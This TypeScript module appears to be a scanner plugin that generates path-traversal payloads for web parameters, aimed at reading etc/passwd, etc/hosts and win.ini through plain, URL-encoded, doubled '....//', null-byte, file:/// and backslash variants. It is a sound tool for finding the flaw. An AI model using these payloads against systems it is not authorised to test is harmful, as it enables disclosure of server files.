import type { KnownFile } from "@picket/plugin-sdk/probe";
import type { InsertionPoint } from "@picket/plugin-sdk/surface";

/** A way to name a file of the system. */
export interface Way {
  readonly file: KnownFile;
  /** `path`: absolute, without its first slash, such as `etc/passwd`. */
  write(path: string): string;
}

/** Deeper than any folder of a web application; more than there are is as many as there are. */
const UP = "../".repeat(12);

const PATHS = {
  passwd: "etc/passwd",
  hosts: "etc/hosts",
  "win.ini": "windows/win.ini",
} as const satisfies Record<KnownFile, string>;

export function pathOf(file: KnownFile): string {
  return PATHS[file];
}

function way(write: Way["write"], file: KnownFile = "passwd"): Way {
  return { file, write };
}

const PLAIN = way((path) => UP + path);
/** Past what decodes twice, and looks for `../` or `..` in between. */
const ENCODED = way((path) => "%2e%2e%2f".repeat(12) + path.replaceAll("/", "%2f"));
/** Past what drops `../` once. */
const DOUBLED = way((path) => "....//".repeat(12) + path);

/** `folder/` of a value such as `folder/file.txt`: what checks how a name begins is content. */
function folderOf(value: string): string {
  return value.slice(0, value.lastIndexOf("/") + 1);
}

function extensionOf(value: string): string {
  return /\.[a-z0-9]{1,5}$/i.exec(value)?.[0] ?? "";
}

/** For names that are files: absolute, past filters that drop or look for `../`, on Windows, as the value begins and ends. */
function waysOfFiles(value: string): Way[] {
  const folder = folderOf(value);
  const extension = extensionOf(value);
  return [
    way((path) => `/${path}`),
    ...(folder === "" ? [] : [way((path) => folder + UP + path)]),
    DOUBLED,
    ENCODED,
    ...(extension === "" ? [] : [way((path) => `${UP}${path}\0${extension}`)]),
    way((path) => `file:///${path}`),
    way((path) => "..\\".repeat(12) + path.replaceAll("/", "\\"), "win.ini"),
  ];
}

const NAMES_A_FILE =
  /file|path|page|doc|templ|incl|lang|locale|view|dir|folder|im(?:g|age)|pic|photo|load|read|show|get|src|source|style|theme|skin|module|content|report|log|conf|attach|pdf|url|uri/i;

/** The first is tried everywhere, the others only where a name of a file is likely. */
export function waysFor(point: InsertionPoint): readonly Way[] {
  if (point.parameter.in === "path") return [PLAIN, ENCODED, DOUBLED];
  return isLikelyFile(point) ? [PLAIN, ...waysOfFiles(point.value)] : [PLAIN];
}

/** By what the parameter held or is called; what stands in a path is no name that a program includes. */
export function isLikelyFile({ kind, parameter }: InsertionPoint): boolean {
  if (parameter.in === "path") return false;
  return kind === "path" || kind === "url" || NAMES_A_FILE.test(parameter.name);
}
